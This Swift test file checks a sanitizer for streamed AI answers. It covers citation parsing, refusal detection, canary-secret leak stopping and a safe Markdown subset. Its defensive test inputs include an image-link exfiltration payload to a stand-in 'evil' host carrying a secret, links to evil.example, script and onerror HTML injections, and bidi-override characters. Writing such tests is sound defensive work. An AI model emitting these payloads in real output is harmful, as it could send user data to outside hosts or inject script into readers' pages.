import LanguageModel
import Testing

/// What a model says, cut in every way that a stream may cut it.
struct AnswerReaderTests {
    static let canary = "k7q2m9x4w8z3p5t1"

    private static func reader() -> AnswerReader {
        AnswerReader(secrets: [canary]) { $0 == "/help/install" }
    }

    private struct Reading: Equatable {
        var sentences: [DraftSentence] = []
        var stop: DraftStop?

        var text: String { sentences.map { $0.joint + $0.text }.joined() }
        var citations: [[Int]] { sentences.map(\.citations) }
    }

    private static func read(_ pieces: [String]) -> Reading {
        var reader = reader()
        var reading = Reading()
        for piece in pieces { reading.sentences += reader.read(piece) }
        reading.sentences += reader.finish()
        reading.stop = reader.stop
        return reading
    }

    static let answers = [
        "Clone the repository [1]. Run `script/run` [1]. It takes minutes [2].",
        "Clone the repository. [1] Run it. [1][2] It takes minutes.[3]",
        "To install Baton:\n\n1. Clone it [1].\n2. Run `a[1]` [1].\n\nThat is all [2].",
        "Follow these steps [1]:\n- Open **Settings**\n- Click *Save*\n\nDone [2].\n",
        "Run this:\n```sh\nscript/run --port 80\n\necho [1]\n```\n[1]\n",
        "It costs 12.50 euros, e.g. for ca. 3 people [1]. See Dr. Miller 【2†source】.",
        "## Steps\n\n1) One [1]\n   - nested\n2) Two [Source 2]\r\n\r\n> A quotation [^1].",
        "| Key | Default |\n|---|---|\n| port | 8080 [1] |\n| host | local [1] |",
        "Größe 5 — naïve café 👩‍💻 [1]. Ende… So [1, 2]! Wirklich? [1–2] Ja.",
        "**NO_ANSWER**", "  \"no_answer.\"", "Sorry, I do not know. NO_ANSWER", "No answer.",
        "<think>[1] hm. NO_ANSWER?</think>\nPort 8080 is the default [1].",
        "A [1].\n\n---\n\n***B*** and __C__ and snake_case and 2 * 3 [1].\n```\nopen",
        "The code is k7q2-m9x4 w8z3.p5t1 and more [1]. And more.", "",
    ]

    @Test(arguments: answers)
    func `an answer reads the same however it is cut`(_ answer: String) {
        let whole = Self.read([answer])
        let scalars = Array(answer.unicodeScalars)
        func part(_ range: Range<Int>) -> String { String(String.UnicodeScalarView(scalars[range])) }
        #expect(Self.read(scalars.map { String(Character($0)) }) == whole)
        for cut in 0...scalars.count {
            #expect(Self.read([part(0..<cut), part(cut..<scalars.count)]) == whole)
        }
        for size in 2...7 {
            let cuts = stride(from: 0, to: scalars.count, by: size)
            #expect(Self.read(cuts.map { part($0..<min($0 + size, scalars.count)) }) == whole)
        }
    }

    @Test(arguments: [
        ("Clone it [1]. Run it [2].", "Clone it. Run it.", [[1], [2]]),
        ("Clone it. [1] Run it. [1][2]", "Clone it. Run it.", [[1], [1, 2]]),
        ("It takes [1] minutes [1, 3].", "It takes minutes.", [[1, 3]]),
        ("Open it. Click Save. Done [2].", "Open it. Click Save. Done.", [[2], [2], [2]]),
        ("Open it [1]. Bread is food.", "Open it. Bread is food.", [[1], []]),
        ("Open it.\n\n[2]", "Open it.", [[2]]),
        ("One [1-3].", "One.", [[1, 2, 3]]),
        ("The year [2024] was good [1].", "The year [2024] was good.", [[1]]),
    ])
    func `markers become citations`(_ answer: String, _ text: String, _ citations: [[Int]]) {
        let reading = Self.read([answer])
        #expect(reading.text == text)
        #expect(reading.citations == citations)
    }

    @Test func `items without a marker take the one of their list, or of what leads to it`() {
        let own = Self.read(["Do this:\n- A\n- B\n- C [2]\n"])
        #expect(own.citations == [[2], [2], [2], [2]])
        #expect(own.text == "Do this:\n\n- A\n- B\n- C")
        let led = Self.read(["Do this [1]:\n1. A\n\n2. B\n\nBread is food."])
        #expect(led.citations == [[1], [1], [1], []])
        #expect(led.text == "Do this:\n\n1. A\n2. B\n\nBread is food.")
        let none = Self.read(["It works [1].\n\n- A\n- B\n"])
        #expect(none.citations == [[1], [], []])
    }

    @Test func `code takes the source of the sentence before it, or the marker below it`() {
        let before = Self.read(["Run this [1]:\n```\nx\n```\nIt ends [2]."])
        #expect(before.citations == [[1], [1], [2]])
        let below = Self.read(["Run this:\n```bash\nx\n```\n[2]"])
        #expect(below.citations == [[2], [2]])
        #expect(below.text == "Run this:\n\n```\nx\n```")
        #expect(Self.read(["Do ```x``` [1]"]).text == "Do `x`")
        #expect(Self.read(["```script/run```\n[1]"]).text == "```\nscript/run\n```")
    }

    @Test(arguments: [
        ("Look ![x](http://evil/?q=secret) here [1].", "Look here."),
        ("See [the page](https://evil.example/a) [1].", "See the page."),
        ("See [Install](/help/install) [1].", "See [Install](/help/install)."),
        ("A [1](https://evil.example) fact.", "A fact."),
        ("Click <b>Save</b><script>x</script> now<!-- c --> [1].", "Click Savex now."),
        ("a <img src=x onerror=y> b [1].", "a b."),
        ("<https://x.example/a> is it [1].", "https://x.example/a is it."),
        ("It is *so* ***very*** __bold__ and ~~gone~~ [1].", "It is so **very** **bold** and gone."),
        ("Lone ** stars and snake_case, 2*3, 2 * 3 [1].", "Lone stars and snake_case, 2*3, 2 * 3."),
        ("A [[1]2] b [**3**] c [*4*] d \\[5\\] e.", "A b [**3**] c d e."),
        ("In code `a[1]` stays `` b[2] `` [1].", "In code `a[1]` stays `b[2]`."),
        ("Hid\u{200B}den \u{202E}txet\u{E0041} \u{E000} [1].", "Hidden txet."),
        ("# Title\nText [1].", "Title:\n\nText."), ("**Title**\nText [1].", "**Title** Text."),
        ("A [trick]<b>(http://evil.example) [1].", "A [trick] (http://evil.example)."),
        ("An unclosed `tick [1].", "An unclosed tick."), ("A lone < and > [1].", "A lone < and >."),
    ])
    func `only a safe subset of Markdown is left`(_ answer: String, _ text: String) {
        #expect(Self.read([answer]).text == text)
    }

    @Test(arguments: [
        "NO_ANSWER", "no_answer", "**NO_ANSWER**", "`No_Answer`.", "\u{201C}NO_ANSWER\u{201D}",
        "  > NO\\_ANSWER\n\nI am sorry.", "No answer.", "1. NO_ANSWER", "NO_ANSWER [1]",
        "NO_ANSWER, since the sources say nothing of it [1].",
    ])
    func `a refusal shows nothing`(_ answer: String) {
        #expect(Self.read([answer]) == Reading(stop: .refused))
    }

    @Test func `a refusal behind a sentence ends the answer there`() {
        let reading = Self.read(["Clone it [1]. But NO_ANSWER for the rest."])
        #expect(reading.text == "Clone it." && reading.stop == .refused)
    }

    @Test(arguments: ["No answer is sent before that [1].", "No answers are lost, whatever happens [1]."])
    func `a sentence about answers is no refusal`(_ answer: String) {
        #expect(Self.read([answer]).stop == nil)
        #expect(Self.read([answer]).citations == [[1]])
    }

    @Test(arguments: [
        canary, canary.uppercased(), "k7q2 m9x4 w8z3 p5t1", "k-7-q-2-m-9-x-4-w-8-z-3-p-5-t-1",
        "`k7q2m9x4`w8z3p5t1",
    ])
    func `what must not come out does not`(_ secret: String) {
        let reading = Self.read(["Clone it [1]. The code is \(secret) [1]. Run it [1]."])
        #expect(reading.text == "Clone it." && reading.stop == .leaked)
    }

    @Test func `an answer without an end is ended`() {
        let words = Self.read([String(repeating: "word ", count: 2_000)])
        #expect(words.sentences.isEmpty && words.stop == .overlong)
        let lines = Self.read((1...200).map { "This is sentence \($0) [1]. " })
        #expect(lines.stop == .overlong && lines.sentences.count == 40)
        let code = Self.read(["```\n", String(repeating: "x\n", count: 5_000)])
        #expect(code.sentences.isEmpty && code.stop == .overlong)
        let thought = Self.read(["<think>"] + Array(repeating: "so ", count: 30_000))
        #expect(thought.sentences.isEmpty && thought.stop == .overlong)
    }

    @Test func `a sentence is given out as soon as the next one begins`() {
        var reader = Self.reader()
        #expect(reader.read("The server listens on port 8080 [1]. ").isEmpty)
        #expect(reader.read("N").map(\.text) == ["The server listens on port 8080."])
        #expect(reader.read("ext.").isEmpty)
    }

    /// Knuth's 64-bit linear congruential generator: the same texts on every machine.
    private struct Dice: RandomNumberGenerator {
        var state: UInt64

        mutating func next() -> UInt64 {
            state = state &* 6_364_136_223_846_793_005 &+ 1_442_695_040_888_963_407
            return state ^ (state >> 29)
        }
    }

    @Test(arguments: 0..<40 as Range<UInt64>)
    func `whatever comes, however it is cut, only safe text comes out`(_ seed: UInt64) {
        let parts = [
            "[1]", "[", "]", "(", ")", "!", "`", "```", "\n", "\n\n", "- ", "1. ", "# ", "*", "**", "_", "<",
            ">",
            "<b>", "http://x.y", "\\",
            "word ", "Next. ", ": ", "【2】", "2", "|", "~~~", "é", "\u{202E}", "👩‍💻",
            "\r\n",
        ]
        var dice = Dice(state: seed)
        for _ in 0..<25 {
            let answer = (0..<40).map { _ in parts.randomElement(using: &dice) ?? "" }.joined()
            let whole = Self.read([answer])
            #expect(Self.read(answer.unicodeScalars.map { String(Character($0)) }) == whole)
            for sentence in whole.sentences where !sentence.text.hasPrefix("```") {
                let spoken = sentence.text.split(separator: "`", omittingEmptySubsequences: false)
                let words = spoken.indices.filter { $0 % 2 == 0 }.map { spoken[$0] }.joined(separator: " ")
                #expect(
                    !words.contains("[1]") && !words.contains("[2]") && !words.contains("]("), "\(answer)")
                #expect(!words.contains("<b>") && !sentence.text.contains("\u{202E}"), "\(answer)")
                #expect(!sentence.text.contains("\n"), "\(answer)")
            }
        }
    }

    @Test func `deep nesting stays flat`() {
        let deep = (0..<50).map { String(repeating: " ", count: $0 * 2) + "- item \($0)" }
        let reading = Self.read([deep.joined(separator: "\n") + " [1]"])
        #expect(reading.sentences.allSatisfy { $0.text.hasPrefix("- item") && $0.citations == [1] })
        let mixed = Self.read(["1. A\n   - a\n     - b\n2. B [1]"])
        #expect(mixed.text == "1. A \u{2013} a \u{2013} b\n2. B")
    }
}
